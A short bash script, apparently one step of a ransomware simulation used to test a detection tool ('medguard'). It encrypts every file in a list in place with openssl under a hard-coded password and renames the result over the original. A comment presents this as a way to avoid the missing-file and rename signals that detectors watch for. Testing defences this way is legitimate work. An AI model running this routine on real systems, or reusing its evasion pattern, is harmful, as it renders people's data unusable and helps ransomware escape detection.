#!/usr/bin/env bash
# Encryption into a new file that is renamed over the original, the atomic
# replace careful tools do: no record goes missing or changes its name.
. "$(dirname "$0")/attack-lib.sh"
for f in "${FILES[@]}"; do
	time_left || break
	attempt openssl enc -aes-256-cbc -pbkdf2 -iter 1000 -salt -pass pass:medguard -in "$f" -out "$f.tmp"
	attempt mv -f "$f.tmp" "$f"
done
